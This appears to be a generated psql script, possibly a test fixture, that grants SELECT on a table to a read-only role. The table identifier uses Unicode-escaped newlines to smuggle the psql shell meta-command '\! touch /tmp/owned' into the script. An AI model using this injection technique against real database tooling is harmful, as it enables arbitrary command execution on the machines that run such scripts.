-- =========================================================
-- Role: hoopdev_analytics_ro_6075a443
-- Resource: analytics (192.168.18.54:5432)
-- Type: managed
-- =========================================================
\set ON_ERROR_STOP on

\connect "analytics"
BEGIN;
GRANT SELECT ON TABLE "public".U&"x\000a\\! touch /tmp/owned\000a" TO "hoopdev_analytics_ro_6075a443";
COMMIT;
